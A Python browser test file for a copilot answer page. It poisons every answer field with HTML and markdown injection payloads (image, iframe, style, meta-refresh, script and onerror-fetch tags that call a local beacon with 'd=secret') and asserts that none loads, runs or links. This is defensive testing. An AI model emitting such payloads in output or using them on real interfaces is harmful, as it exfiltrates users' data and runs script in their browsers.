"""What hostile text can do on the page: nothing."""

import json
import threading
from collections.abc import Callable, Iterator
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from copilot.answer import Answer, Segment

pytestmark = pytest.mark.browser

Make = Callable[..., Any]


def violations(page: Any) -> list[str]:
    found: list[str] = page.evaluate("window.violations")
    return found


@pytest.fixture
def beacon() -> Iterator[tuple[str, list[str]]]:
    """A server on loopback that remembers what was asked of it."""
    hits: list[str] = []

    class Remember(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, format: str, *args: Any) -> None: ...

    server = ThreadingHTTPServer(("127.0.0.1", 0), Remember)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", hits
    server.shutdown()


def payloads(at: str) -> list[str]:
    return [
        f"![x]({at}/1?d=secret)",
        f"![x][ref]\n\n[ref]: {at}/2?d=secret",
        f'<img src="{at}/3">',
        f'<img srcset="{at}/4 2x" src="x">',
        f'<picture><source srcset="{at}/5"><img></picture>',
        f'<svg><image href="{at}/6" xlink:href="{at}/6"/></svg>',
        f'<div style="background-image:url({at}/7)">x</div>',
        f"<style>@import url({at}/8); body {{ background: url({at}/8) }}</style>",
        f'<input type="image" src="{at}/9">',
        f'<video poster="{at}/10" src="{at}/10" autoplay></video>',
        f'<audio src="{at}/11" autoplay></audio>',
        f'```mermaid\ngraph TD; A["<img src={at}/12>"]-->B\n```',
        f'<iframe src="{at}/13"></iframe>',
        f'<object data="{at}/14"></object><embed src="{at}/14">',
        f'<link rel="stylesheet" href="{at}/15"><meta http-equiv="refresh" content="0;url={at}/15">',
        f"[click]({at}/16?d=secret) and <{at}/16?d=secret> and {at}/16?d=secret",
        f"<script>window.__pwn = 1</script><img src=x onerror=\"window.__pwn = 1; fetch('{at}/17')\">",
    ]


def poisoned(answer: Answer, text: str) -> Answer:
    facts = json.loads(json.dumps(answer.facts))
    for fact in facts:
        fact["label"] = fact["formula"] = fact["provenance"]["note"] = text
        for entry in fact["inputs"]:
            if "symbol" in entry:
                entry["symbol"] = text
    source = {**answer.citations[0], "title": text, "publisher": text, "locator": text, "quote": text}
    return replace(
        answer,
        segments=(Segment(text), *answer.segments, Segment(text, verdict="unproved", reason=text)),
        facts=tuple(facts),
        citations=(source,),
        passages=({**answer.passages[0], "text": f"{text}\n\n{text}"},),
        steps=({"tool": text, "arguments": {text: text}, "result": text, "seconds": 0.0},),
        suggestions=(text,),
        data=text,
        reading=({**answer.reading[0], "text": text, "notes": [text]},),
    )


@pytest.mark.fault("X2")
@pytest.mark.fault("X3")
def test_nothing_that_a_text_says_is_loaded_run_or_linked(
    visit: Make, telling: Make, answer: Answer, ask: Make, beacon: tuple[str, list[str]]
) -> None:
    at, hits = beacon
    text = "\n\n".join(payloads(at))
    page = visit(telling(poisoned(answer, text), notice=text))
    ask(page, text[:3900])
    page.evaluate("for (const part of document.querySelectorAll('details')) part.open = true")
    for card in page.locator("#current section[popover]").all():
        card.evaluate("(card) => { card.showPopover(); card.hidePopover(); }")
    ask(page, "And again?")

    assert page.evaluate("window.__pwn") is None
    assert hits == []
    assert violations(page) == []
    links = page.eval_on_selector_all("a[href]", "found => found.map(a => a.getAttribute('href'))")
    elsewhere = {link for link in links if not link.startswith(("/copilot/answers/", "#"))}
    assert elsewhere == {"https://example.com/outlook?year=2026"}


@pytest.mark.fault("X2")
def test_a_saved_page_loads_runs_and_links_nothing_either(
    chromium: Any, answer: Answer, beacon: tuple[str, list[str]]
) -> None:
    from ui.render.html import html

    at, hits = beacon
    page = chromium.new_page()
    page.set_content(html(poisoned(answer, "\n\n".join(payloads(at))).to_json()))
    page.wait_for_load_state("networkidle")

    assert page.evaluate("window.__pwn") is None
    assert hits == []
    assert page.eval_on_selector_all("a[href]", "found => found.length") == 1
    page.close()


@pytest.mark.fault("X2")
def test_the_beacon_would_have_seen_a_request(chromium: Any, beacon: tuple[str, list[str]]) -> None:
    at, hits = beacon
    page = chromium.new_page()
    page.set_content(f'<img src="{at}/seen">')
    page.wait_for_load_state("networkidle")
    page.close()

    assert hits == ["/seen"]


def test_the_policy_stops_what_would_slip_through(chromium: Any, serving: Make, telling: Make, answer: Answer) -> None:
    page = chromium.new_page()
    page.add_init_script(
        "window.violations = [];"
        "document.addEventListener('securitypolicyviolation', (e) => window.violations.push(e.violatedDirective));"
    )
    page.goto(serving(telling(answer)))
    page.wait_for_selector("#current .welcome")
    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<b id=x onclick=\"window.__pwn = 1\">x</b>')")
    page.evaluate("document.getElementById('x').click()")

    assert page.evaluate("window.__pwn") is None
    assert violations(page) == ["script-src-attr"]
    page.close()
